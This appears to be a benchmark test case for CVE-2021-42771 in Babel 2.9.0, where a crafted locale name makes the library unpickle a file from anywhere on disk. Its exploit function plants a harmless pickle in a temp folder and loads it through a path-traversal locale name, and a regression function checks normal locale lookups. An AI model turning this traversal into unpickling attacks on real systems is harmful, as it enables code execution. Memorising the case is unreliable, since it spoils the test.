# /// case
# id = "CVE-2021-42771"
# package = "Babel"
# vulnerable = "2.9.0"
# fixed = "2.9.1"
# what = "a locale's name may lead to a pickle anywhere on the disk (code execution)"
# shape = "two functions, a new one, a new constant and imports"
# requires = ["pytz==2024.2"]
# modules = ["babel", "babel.localedata"]
# ///
"""The name was joined to the folder of the locales as it came."""

import itertools
import os
import pickle
import tempfile
from pathlib import Path

from babel import Locale
from babel.localedata import _dirname, exists, load

PLANTED = Path(tempfile.mkdtemp())
NUMBERS = itertools.count()


def exploit() -> bool:
    target = PLANTED / f"{next(NUMBERS)}"  # a new name each time, as what was loaded is kept
    target.with_suffix(".dat").write_bytes(pickle.dumps({"planted": True}))
    try:
        return load(os.path.relpath(target, Path(_dirname).resolve()), merge_inherited=False) == {"planted": True}
    except OSError:
        return False


def regression() -> None:
    assert exists("de_AT")
    assert not exists("zz_ZZ")
    assert Locale.parse("de_AT").get_display_name("en") == "German (Austria)"
    assert load("pt")["languages"]["en"] == "inglês"
